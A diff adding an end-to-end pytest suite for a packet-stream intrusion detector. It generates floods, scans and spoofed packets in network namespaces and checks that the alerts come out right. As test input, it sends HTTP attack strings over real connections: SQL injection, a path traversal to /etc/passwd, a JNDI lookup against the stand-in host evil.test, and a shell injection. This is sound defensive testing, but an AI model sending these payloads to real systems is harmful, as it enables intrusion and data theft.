@@ -1,0 +1,387 @@
+"""``pktstream alerts`` against real packets and the real broker: every detector raises exactly its
+alert from attack traffic sent out of network namespaces; a benign mix of the same volume raises
+none; a replay gives the same alerts and ids; a consumer SIGKILLed mid-stream neither repeats nor
+misses an alert; a flood captured by two hosts (two packet partitions) is seen whole."""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.request
+import uuid
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from confluent_kafka import Consumer, KafkaError, Producer, TopicPartition
+from scapy.layers.inet import ICMP, IP, TCP, UDP
+from scapy.layers.l2 import Ether
+
+from bench.traffic import containers, generate, merge, packets, spread
+from pktstream.consumers.tail import tail
+from pktstream.producer.kafka import ensure_topic
+from tests.e2e.producer_proc import PKTSTREAM, ProducerProcess
+from tests.e2e.test_usage import committed, run_clients, servers
+from tests.helpers import NetnsHost
+
+pytestmark = [pytest.mark.kernel, pytest.mark.kafka]
+
+HTTP_PORT = 18080
+
+
+def rules(external: list[str]) -> dict[str, Any]:
+    """Thresholds a test can reach in seconds; the benign mix must stay under them all the same."""
+    return {"external_interfaces": external, "detectors": {
+        "syn_flood": {"min_half_open": 500},
+        "udp_flood": {"min_packets": 3000},
+        "icmp_flood": {"min_packets": 2000},
+        "amplification": {"min_packets": 300},
+        "volumetric": {"window_s": 1, "warmup_windows": 5, "min_packets": 6000},
+    }}
+
+
+CATALOG = {"apis": [{"name": "login", "host": "api.shop.test", "method": "POST", "path": "/login",
+                     "rate_limit_per_min": 50}]}
+
+
+def frames_of(h: NetnsHost, pkts: list[Any]) -> list[bytes]:
+    return [bytes(Ether(src=h.peer_mac, dst=h.host_mac) / p) for p in pkts]
+
+
+def alerts_cmd(bootstrap: str, topic: str, app: str, out_topic: str, rules_file: Path, catalog: Path,
+               *extra: str) -> list[str]:
+    return [PKTSTREAM, "alerts", "--bootstrap-servers", bootstrap, "--topic", topic, "--app-id", app,
+            "--alerts-topic", out_topic, "--rules", str(rules_file), "--catalog", str(catalog), "--from-beginning",
+            "--until-end", "--output", "json", "--metrics-port", "0", "--log-format", "json", *extra]
+
+
+def run_alerts(cmd: list[str]) -> list[dict[str, Any]]:
+    p = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
+    assert p.returncode == 0, p.stderr[-3000:]
+    return [json.loads(line) for line in p.stdout.splitlines()]
+
+
+def read_alerts(bootstrap: str, topic: str) -> list[dict[str, Any]]:
+    c = Consumer({"bootstrap.servers": bootstrap, "group.id": f"t-{uuid.uuid4().hex[:6]}",
+                  "auto.offset.reset": "earliest", "enable.partition.eof": True})
+    parts = list(c.list_topics(topic, timeout=10).topics[topic].partitions)
+    c.assign([TopicPartition(topic, p, 0) for p in parts])
+    out, eof = [], set()
+    deadline = time.monotonic() + 60
+    while len(eof) < len(parts) and time.monotonic() < deadline:
+        m = c.poll(0.5)
+        if m is None:
+            continue
+        if m.error():
+            if m.error().code() == KafkaError._PARTITION_EOF:
+                eof.add(m.partition())
+            continue
+        doc = json.loads(m.value())
+        assert m.key() == doc["finding_info"]["uid"].encode()
+        out.append(doc)
+    c.close()
+    return out
+
+
+def fired(docs: list[dict[str, Any]], activity: int = 1) -> list[tuple[str, str]]:
+    return sorted((d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"]) for d in docs
+                  if d["activity_id"] == activity)
+
+
+def records(bootstrap: str, topic: str) -> list[dict[str, Any]]:
+    buf = io.StringIO()
+    tail({"bootstrap.servers": bootstrap}, topic, start="beginning", follow=False, out=buf, payload="none")
+    return [json.loads(line) for line in buf.getvalue().splitlines()]
+
+
+@contextmanager
+def capture(bootstrap: str, topic: str, hosts: list[NetnsHost]) -> Iterator[None]:
+    prods = [ProducerProcess("--interface", h.host_if, "--bootstrap-servers", bootstrap, "--topic", topic,
+                             "--partitions", "2", "--batch-age-ms", "50", "--payload-bytes", "256",
+                             env={"PKTSTREAM_HOST_ID": f"cap{i}"}) for i, h in enumerate(hosts)]
+    try:
+        for p in prods:
+            p.wait_event("producer_started")
+        yield
+        time.sleep(1.0)
+    finally:
+        rcs = [p.stop() for p in prods]
+    assert rcs == [0] * len(prods)
+
+
+def attack_traffic(a: NetnsHost, b: NetnsHost) -> None:
+    victim = a.host_ip
+    base = a.peer_ip.rsplit(".", 1)[0]
+    rng = random.Random(7)
+    flood = [
+        *[IP(src=a.peer_ip, dst=victim) / TCP(sport=50000, dport=port, flags="S") for port in range(1, 101)],
+        *[IP(src=f"{base}.3", dst=f"{base}.{10 + i}") / TCP(sport=50001, dport=22, flags="S") for i in range(50)],
+        *[IP(src=f"52.{rng.randrange(1, 255)}.{rng.randrange(256)}.{rng.randrange(1, 255)}", dst=victim)
+          / TCP(sport=rng.randrange(1024, 65535), dport=80, flags="S") for _ in range(1500)],
+        *[IP(src=f"{base}.4", dst=victim) / UDP(sport=40000 + i % 50, dport=9999) / (b"x" * 64)
+          for i in range(4000)],
+        *[IP(src=f"{base}.5", dst=victim) / ICMP(type=8, id=1, seq=i) / (b"p" * 56) for i in range(2500)],
+        *[IP(src=f"45.33.32.{10 + i % 40}", dst=victim) / UDP(sport=(53, 123)[i % 2], dport=4444) / (b"a" * 1200)
+          for i in range(500)],
+        IP(src=victim, dst=victim) / TCP(sport=80, dport=80, flags="S"),
+        IP(src="224.0.0.9", dst=victim) / UDP(sport=520, dport=520) / b"rip",
+        *[IP(src=f"{base}.6", dst=victim) / TCP(sport=51000, dport=80, flags=fl)
+          for fl in ("", "FPU", "SF", "SR", "F") for _ in range(2)],
+    ]
+    a.send_frames(frames_of(a, flood))
+    b.send_frames(frames_of(b, [IP(src="10.99.0.1", dst=b.host_ip) / TCP(sport=1234, dport=443, flags="S")
+                                for _ in range(3)]))
+    # attack strings and a client over its rate limit, over real TCP connections
+    attacks = ["/search?q=1%27%20OR%20%271%27=%271", "/static/../../../../etc/passwd",
+               "/x?a=${${lower:j}ndi:ldap://evil.test/a}", "/ping?host=127.0.0.1;cat%20/etc/hostname"]
+    plan = [{"src": a.peer_ip, "server": victim, "port": HTTP_PORT, "kind": "http", "host": "api.shop.test",
+             "requests": [["GET", p]]} for p in attacks]
+    plan.append({"src": f"{base}.7", "server": victim, "port": HTTP_PORT, "kind": "http", "host": "api.shop.test",
+                 "requests": [["POST", "/login"]] * 80})
+    run_clients(a, plan)
+    # a steady stream to one address for 6 s, then a burst: its volume against its own baseline
+    steady = frames_of(a, [IP(src=f"{base}.8", dst=f"{base}.200") / TCP(sport=52000, dport=443, flags="A")
+                           for _ in range(300)])
+    for _ in range(7):
+        t = time.monotonic()
+        a.send_frames(steady)
+        time.sleep(max(0.0, 1.0 - (time.monotonic() - t)))
+    a.send_frames(frames_of(a, [IP(src=f"{base}.8", dst=f"{base}.200") / TCP(sport=20000 + i % 5000, dport=443,
+                                                                               flags="A") for i in range(12000)]))
+
+
+EXPECTED = [
+    ("address_sweep", "{base}.3->*:22/tcp"),
+    ("amplification", "{victim}"),
+    ("http_attack", "jndi_lookup:{peer}->{victim}:18080"),
+    ("http_attack", "path_traversal:{peer}->{victim}:18080"),
+    ("http_attack", "shell_injection:{peer}->{victim}:18080"),
+    ("http_attack", "sql_injection:{peer}->{victim}:18080"),
+    ("icmp_flood", "{victim}"),
+    ("port_scan", "{peer}->{victim}"),
+    ("rate_limit", "login:{base}.7"),
+    ("spoofed_source", "LAND->{victim}"),
+    ("spoofed_source", "bogon or martian source->{b_victim}"),
+    ("spoofed_source", "multicast or broadcast source->{victim}"),
+    ("syn_flood", "{victim}"),
+    ("tcp_flags", "FIN without ACK:{base}.6->{victim}"),
+    ("tcp_flags", "NULL:{base}.6->{victim}"),
+    ("tcp_flags", "SYN+FIN:{base}.6->{victim}"),
+    ("tcp_flags", "SYN+RST:{base}.6->{victim}"),
+    ("tcp_flags", "XMAS:{base}.6->{victim}"),
+    ("udp_flood", "{victim}"),
+    ("volumetric", "destination:{base}.200"),
+    ("volumetric", "source:{base}.8"),
+]
+
+
+def test_each_detector_raises_exactly_its_alert_from_real_packets(
+        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
+    a, b = make_host(), make_host()
+    topic = f"alerts-e2e-{uuid.uuid4().hex[:8]}"
+    rules_file = tmp_path / "rules.yaml"
+    rules_file.write_text(yaml.safe_dump(rules([b.host_if])))
+    catalog = tmp_path / "catalog.yaml"
+    catalog.write_text(yaml.safe_dump(CATALOG))
+    with servers(tmp_path), capture(kafka_bootstrap, topic, [a, b]):
+        attack_traffic(a, b)
+    base = a.peer_ip.rsplit(".", 1)[0]
+    expected = sorted((r, k.format(base=base, victim=a.host_ip, peer=a.peer_ip, b_victim=b.host_ip))
+                      for r, k in EXPECTED)
+    out = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts",
+                                rules_file, catalog, "--partitions", "3"))
+    assert fired(out) == expected
+    assert fired(out, 3) == expected  # each closed once, nothing left open
+    assert all(d["activity_id"] in (1, 3) for d in out)  # one window each: no updates
+    recs = records(kafka_bootstrap, topic)
+
+    def seen(pred: Callable[[dict[str, Any]], bool]) -> int:
+        return sum(1 for r in recs if pred(r))
+
+    by_key = {(d["unmapped"]["pktstream"]["rule"], d["unmapped"]["pktstream"]["key"]): d
+              for d in out if d["activity_id"] == 1}
+    victim = a.host_ip
+    scan = by_key[("port_scan", f"{a.peer_ip}->{victim}")]["unmapped"]["pktstream"]
+    assert scan["distinct"] == 101  # ports 1..100 and the HTTP server's, all from that source
+    udp = by_key[("udp_flood", victim)]
+    assert udp["unmapped"]["pktstream"]["window_count"] == seen(
+        lambda r: r["protocol"] == 17 and r["dst_addr"] == victim and r["src_port"] not in (53, 123))
+    assert udp["evidences"][0]["src_endpoint"]["ip"] == f"{base}.4"
+    assert udp["finding_info"]["attacks"][0]["technique"]["uid"] == "T1498.001"
+    assert udp["unmapped"]["pktstream"]["seen_by"] == [f"cap0/{a.host_if}"]
+    icmp = by_key[("icmp_flood", victim)]["unmapped"]["pktstream"]
+    assert icmp["window_count"] == seen(lambda r: r["protocol"] == 1 and r["src_port"] == 8)
+    sweep = by_key[("address_sweep", f"{base}.3->*:22/tcp")]["unmapped"]["pktstream"]
+    assert sweep["distinct"] == 50
+    flows: dict[tuple[str, int, int], list[int]] = {}
+    for r in recs:
+        if r["protocol"] == 6 and r["dst_addr"] == victim:
+            flows.setdefault((r["src_addr"], r["src_port"], r["dst_port"]), []).append(r["tcp_flags"])
+    opened = sum(1 for f in flows.values() for x in f if x & 0x12 == 0x02)  # SYNs without ACK
+    completed = sum(1 for f in flows.values() if any(x & 0x12 == 0x02 for x in f) and any(x & 0x10 for x in f))
+    assert opened - completed >= 1500
+    syn = by_key[("syn_flood", victim)]
+    assert syn["message"] == f"{opened - completed} of {opened} connections to {victim} left half-open"
+    bogon = by_key[("spoofed_source", f"bogon or martian source->{b.host_ip}")]["unmapped"]["pktstream"]
+    assert bogon["window_count"] == 3 and bogon["seen_by"] == [f"cap1/{b.host_if}"]
+    jndi = by_key[("http_attack", f"jndi_lookup:{a.peer_ip}->{victim}:18080")]
+    assert jndi["evidences"][0]["data"]["path"] == "/x"
+    assert jndi["severity_id"] == 4 and jndi["finding_info"]["attacks"][0]["technique"]["uid"] == "T1190"
+    rate = by_key[("rate_limit", f"login:{base}.7")]["unmapped"]["pktstream"]
+    assert rate["window_count"] == 80
+    # what was printed is what the topic holds, keyed by alert id
+    assert sorted(json.dumps(d, sort_keys=True) for d in read_alerts(kafka_bootstrap, f"{topic}.alerts")) == \
+        sorted(json.dumps(d, sort_keys=True) for d in out)
+    # a replay (another app id, another partition count): the same alerts with the same ids
+    again = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts2",
+                                  rules_file, catalog, "--partitions", "2"))
+    assert sorted(json.dumps(d, sort_keys=True) for d in again) == sorted(json.dumps(d, sort_keys=True) for d in out)
+
+
+def benign_traffic(c: NetnsHost, tmp_path: Path) -> None:
+    base = c.peer_ip.rsplit(".", 1)[0]
+    # normal HTTP clients: three addresses, keep-alive connections with a few requests each
+    plan = [{"src": f"{base}.{2 + i % 3}", "server": c.host_ip, "port": HTTP_PORT, "kind": "http",
+             "host": "api.shop.test", "requests": [["GET", f"/v1/users/{i}"], ["GET", "/v1/orders"]] * 3}
+            for i in range(150)]
+    run_clients(c, plan)
+    # DNS lookups: 2000 queries to a resolver on this host
+    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    dns.bind((c.host_ip, 53))
+    stop = threading.Event()
+
+    def answer() -> None:
+        dns.settimeout(0.5)
+        while not stop.is_set():
+            try:
+                q, peer = dns.recvfrom(512)
+            except OSError:
+                continue
+            dns.sendto(q[:2] + b"\x81\x80" + q[4:], peer)
+
+    th = threading.Thread(target=answer, daemon=True)
+    th.start()
+    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01")
+    c.run(sys.executable, "-c", f"""
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(1)
+for i in range(2000):
+    s.sendto({query!r}, ({c.host_ip!r}, 53))
+    try:
+        s.recv(512)
+    except OSError:
+        pass
+""", timeout=120)
+    stop.set()
+    th.join(2)
+    dns.close()
+    # a bulk download: 40 MB from a server in the namespace
+    (tmp_path / "blob").write_bytes(b"\0" * (40 << 20))
+    srv = c.popen(sys.executable, "-m", "http.server", "8000", "--bind", c.peer_ip, "--directory", str(tmp_path))
+    try:
+        deadline = time.monotonic() + 20
+        while True:
+            try:
+                with urllib.request.urlopen(f"http://{c.peer_ip}:8000/blob", timeout=30) as r:
+                    assert len(r.read()) == 40 << 20
+                break
+            except OSError:
+                assert time.monotonic() < deadline
+                time.sleep(0.2)
+    finally:
+        srv.terminate()
+        srv.wait(10)
+
+
+def test_benign_mix_of_the_same_volume_raises_nothing(
+        kafka_bootstrap: str, make_host: Callable[..., NetnsHost], tmp_path: Path) -> None:
+    c = make_host()
+    topic = f"alerts-benign-{uuid.uuid4().hex[:8]}"
+    rules_file = tmp_path / "rules.yaml"
+    rules_file.write_text(yaml.safe_dump(rules([])))
+    catalog = tmp_path / "catalog.yaml"
+    catalog.write_text(yaml.safe_dump(CATALOG))
+    with servers(tmp_path), capture(kafka_bootstrap, topic, [c]):
+        benign_traffic(c, tmp_path)
+    n = len(records(kafka_bootstrap, topic))
+    assert n >= 25000, n  # the attack test's volume is about 24,000 packets
+    out = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-al-{uuid.uuid4().hex[:6]}", f"{topic}.alerts",
+                                rules_file, catalog))
+    assert [(d["unmapped"]["pktstream"]["rule"], d["message"]) for d in out] == []
+
+
+def load(bootstrap: str, topic: str) -> None:
+    """Generated traffic from two hosts (two packet partitions) with attacks that span several windows;
+    the SYN flood is split between the hosts: each half alone is under the threshold."""
+    ensure_topic({"bootstrap.servers": bootstrap}, topic, 6)
+    t0 = (time.time_ns() - 600 * 10**9) // (300 * 10**9) * (300 * 10**9)
+    sec = 10**9
+    rng = random.Random(5)
+    benign = generate(20000, t0, 250 * sec, clients=300, seed=9)
+    flood = packets([{"ts": ts, "src": f"52.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
+                      "dst": "10.1.0.10", "sport": rng.randrange(1024, 65535), "dport": 80, "flags": 0x02}
+                     for ts in spread(t0 + 20 * sec, 12000, 40 * sec)])
+    udp = packets([{"ts": ts, "src": "45.33.32.1", "dst": "10.1.0.11", "proto": 17, "sport": 40000, "dport": 9,
+                    "len": 100} for ts in spread(t0 + 100 * sec, 100000, 30 * sec)])
+    scan = packets([{"ts": t0 + 150 * sec + i * 10**8, "src": "45.33.32.9", "dst": "10.1.0.12", "dport": p,
+                     "flags": 0x02} for i, p in enumerate(range(1000, 1100))])
+    half = flood.n // 2
+    first = {k: v[:half] for k, v in flood.columns.items()}
+    second = {k: v[half:] for k, v in flood.columns.items()}
+    from bench.traffic import Traffic
+
+    host0 = merge(benign, Traffic(first, half), udp)
+    host1 = merge(Traffic(second, flood.n - half), scan)
+    p = Producer({"bootstrap.servers": bootstrap, "linger.ms": 20, "compression.type": "zstd",
+                  "message.max.bytes": 16 << 20})
+    for name, t in (("gen0", host0), ("gen1", host1)):
+        for m in containers(t, batch=3000, host=name):
+            p.produce(topic, m, key=name.encode())
+    assert p.flush(60) == 0
+
+
+def test_alerts_consumer_killed_mid_stream_neither_repeats_nor_misses(kafka_bootstrap: str, tmp_path: Path) -> None:
+    topic = f"alerts-restart-{uuid.uuid4().hex[:8]}"
+    load(kafka_bootstrap, topic)
+    rules_file = tmp_path / "rules.yaml"
+    rules_file.write_text(yaml.safe_dump({"detectors": {"syn_flood": {"min_half_open": 500}}}))
+    catalog = tmp_path / "catalog.yaml"
+    catalog.write_text(yaml.safe_dump({"apis": []}))
+    ref = run_alerts(alerts_cmd(kafka_bootstrap, topic, f"t-ref-{uuid.uuid4().hex[:6]}", f"{topic}.ref",
+                                rules_file, catalog))
+    rules_seen = {d["unmapped"]["pktstream"]["rule"] for d in ref}
+    assert {"syn_flood", "udp_flood", "port_scan"} <= rules_seen, rules_seen
+    syn = [d for d in ref if d["unmapped"]["pktstream"]["rule"] == "syn_flood"]
+    assert [d["activity_name"] for d in syn][0] == "Create" and len({d["finding_info"]["uid"] for d in syn}) == 1
+    assert sorted({s for d in syn for s in d["unmapped"]["pktstream"].get("seen_by", [])}) == \
+        ["gen0/eth0", "gen1/eth0"]  # both halves met in one partition
+    assert any(d["activity_name"] == "Update" for d in ref)
+
+    app = f"t-kill-{uuid.uuid4().hex[:6]}"
+    cmd = alerts_cmd(kafka_bootstrap, topic, app, f"{topic}.killed", rules_file, catalog, "--commit-interval-s",
+                     "0.2")
+    for attempt in range(3):
+        p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        if attempt == 2:
+            assert p.wait(300) == 0
+            break
+        base = committed(kafka_bootstrap, app, topic, f"{app}.repartition")
+        deadline = time.monotonic() + 120
+        while committed(kafka_bootstrap, app, topic, f"{app}.repartition") == base:
+            assert time.monotonic() < deadline and p.poll() is None, "no commit before the deadline"
+            time.sleep(0.02)
+        p.send_signal(signal.SIGKILL)
+        p.wait(30)
+    got = read_alerts(kafka_bootstrap, f"{topic}.killed")
+    assert sorted(json.dumps(d, sort_keys=True) for d in got) == sorted(json.dumps(d, sort_keys=True) for d in ref)
